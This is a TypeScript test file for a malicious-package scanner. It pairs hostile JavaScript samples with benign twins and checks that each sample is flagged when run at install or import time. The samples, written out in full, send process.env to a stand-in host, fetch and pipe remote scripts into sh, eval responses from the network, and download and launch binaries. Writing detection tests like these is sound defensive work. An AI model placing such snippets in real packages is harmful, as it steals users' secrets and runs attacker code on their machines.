import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { readingOf } from './python-reading.ts'

type Files = Readonly<Record<string, string>>

/** A deed as code that runs by itself, and an innocent twin; `files` stand beside both. */
interface Deed {
  readonly name: string
  readonly check: string
  readonly code: string
  readonly twin?: string
  readonly files?: Files
  /** both where nothing is said */
  readonly moments?: readonly ('install' | 'import')[]
}

const DEEDS: readonly Deed[] = [
  {
    name: 'commands that come over a web socket',
    check: 'download-and-execute',
    code: `const ws = new WebSocket('wss://c.invalid/'); ws.onmessage = (m) => require('child_process').exec(m.data)`,
    twin: `const ws = new WebSocket('wss://c.invalid/'); ws.onmessage = (m) => console.log(m.data)`,
  },
  {
    name: 'code in the error of a client',
    check: 'download-and-execute',
    code: `require('axios').get('https://c.invalid/').catch((e) => new (Function.constructor)('require', e.response.data.t)(require))`,
    twin: `require('axios').get('https://c.invalid/').catch((e) => console.log(e.message))`,
  },
  {
    name: 'code in an error that is caught',
    check: 'download-and-execute',
    code: `(async () => { try { await require('axios').get('https://c.invalid/') } catch (e) { eval(e.response.data) } })()`,
    twin: `(async () => { try { await require('axios').get('https://c.invalid/') } catch (e) { throw e } })()`,
  },
  {
    name: 'code without blanks that is given to node',
    check: 'secrets-exfiltration',
    code: `require('child_process').execFile('node', ['-e', "require('https').get('https://c.invalid/'+JSON.stringify(process.env))"])`,
    twin: `require('child_process').execFile('node', ['-e', "console.log(require('os').EOL.length)"])`,
    moments: ['install'],
  },
  {
    name: 'code in a file of data',
    check: 'secrets-exfiltration',
    code: `const theme = JSON.parse(require('fs').readFileSync(__dirname + '/theme.json', 'utf8')); new Function('process', theme.init)(process)`,
    twin: `const theme = JSON.parse(require('fs').readFileSync(__dirname + '/theme.json', 'utf8')); console.log(theme.init)`,
    files: {
      'theme.json': `{"dark":"#000","init":"fetch('https://c.invalid/', { body: JSON.stringify(process.env) })"}`,
    },
  },
  {
    name: 'a program as text that is written and started',
    check: 'secrets-exfiltration',
    code: `require('fs').writeFileSync('/tmp/q.js', 'fetch("https://c.invalid/", { body: JSON.stringify(process.env) })')
      require('child_process').execSync('node /tmp/q.js')`,
    twin: `require('fs').writeFileSync('/tmp/q.js', 'console.log(1)'); require('child_process').execSync('node /tmp/q.js')`,
    moments: ['install'],
  },
  {
    name: 'a script of a shell as text that is written and started',
    check: 'download-and-execute',
    code: `const os = require('os'), fs = require('fs'), p = require('path').join(os.tmpdir(), 'q')
      fs.writeFileSync(p, '#!/bin/sh\\ncurl -s https://c.invalid/i | sh\\n'); require('child_process').spawn(p)`,
    twin: `const os = require('os'), fs = require('fs'), p = require('path').join(os.tmpdir(), 'q')
      fs.writeFileSync(p, '#!/bin/sh\\necho done\\n'); require('child_process').spawn(p)`,
  },
  {
    name: 'a module as text that is written and loaded',
    check: 'secrets-exfiltration',
    code: `const p = require('os').tmpdir() + '/q.js'
      require('fs').writeFileSync(p, 'fetch("https://c.invalid/", { body: JSON.stringify(process.env) })'); require(p)`,
    twin: `const p = require('os').tmpdir() + '/q.js'; require('fs').writeFileSync(p, 'module.exports = 1'); require(p)`,
  },
  {
    name: 'code that was packed, word by word',
    check: 'decode-and-execute',
    code: `eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}('3 2=1(\\'0\\');2.4(\\'5\\')',6,6,'child_process|require|x|const|exec|id'.split('|'),0,{}))`,
    twin: `eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}('2 1=3;0.4(1)',5,5,'console|x|const|100|log'.split('|'),0,{}))`,
  },
  {
    name: 'a program that is fetched, put into the folder of what is thrown away, and started',
    check: 'download-and-execute',
    code: `const p = require('path').join(require('os').tmpdir(), 'svc')
      fetch('https://c.invalid/b').then((r) => r.arrayBuffer()).then((data) => {
        const bytes = Buffer.from(data); require('fs').writeFileSync(p, bytes); require('fs').chmodSync(p, 0o755)
        require('child_process').spawn(p, [], { detached: true }).unref() })`,
    twin: `const p = require('path').join(require('os').tmpdir(), 'svc')
      fetch('https://c.invalid/b').then((r) => r.arrayBuffer()).then((data) => {
        const bytes = Buffer.from(data), sum = require('crypto').createHash('sha256').update(bytes).digest('hex')
        if (sum !== '${'5f'.repeat(32)}') throw new Error('it is another one')
        require('fs').writeFileSync(p, bytes); require('child_process').spawn(p, [], { stdio: 'inherit' }) })`,
  },
  {
    name: 'a program that is piped into a file and started',
    check: 'download-and-execute',
    code: `const fs = require('fs'), p = require('os').tmpdir() + '/upd.exe', out = fs.createWriteStream(p)
      require('https').get('https://c.invalid/upd.exe', (res) => res.pipe(out)); out.on('finish', () => require('child_process').execFile(p))`,
    twin: `const fs = require('fs'), p = require('os').tmpdir() + '/upd.exe', out = fs.createWriteStream(p), hash = require('crypto').createHash('sha256')
      require('https').get('https://c.invalid/upd.exe', (res) => { res.pipe(hash); res.pipe(out) })
      out.on('finish', () => { if (hash.digest('hex') === require('./sums.json').upd) require('child_process').execFile(p) })`,
    files: { 'sums.json': `{"upd":"${'5f'.repeat(32)}"}` },
  },
]

const BOTH = ['install', 'import'] as const

async function checksOf(code: string, files: Files, moment: 'install' | 'import'): Promise<readonly string[]> {
  const manifest = {
    name: 'sample',
    version: '1.0.0',
    ...(moment === 'install' ? { scripts: { postinstall: 'node x.js' } } : { main: 'x.js' }),
  }
  const reading = readingOf('npm-tarball', { 'package.json': JSON.stringify(manifest), 'x.js': code, ...files })
  const { findings } = await inspect(reading, { digest: sha256('x'), readAs: 'npm-tarball' })
  return findings
    .filter(({ severity, confidence }) => severity !== 'low' && severity !== 'info' && confidence !== 'low')
    .map(({ check }) => check)
}

for (const { name, check, code, twin, files = {}, moments = BOTH } of DEEDS)
  t.test(name, async (t) => {
    for (const moment of moments) {
      t.ok((await checksOf(code, files, moment)).includes(check), `is found at ${moment}`)
      if (twin !== undefined)
        t.notOk((await checksOf(twin, files, moment)).includes(check), `the twin is innocent at ${moment}`)
    }
  })
